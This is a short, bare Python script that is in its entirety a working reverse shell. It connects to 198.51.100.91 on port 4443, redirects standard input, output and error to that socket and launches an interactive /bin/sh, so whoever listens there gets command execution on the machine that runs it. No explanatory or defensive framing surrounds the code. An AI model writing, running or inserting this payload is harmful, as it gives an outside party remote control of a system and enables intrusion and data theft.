#!/usr/bin/env python3
import socket, subprocess, os, uuid
print("session", uuid.uuid4().hex[:8])
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("198.51.100.91", 4443))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
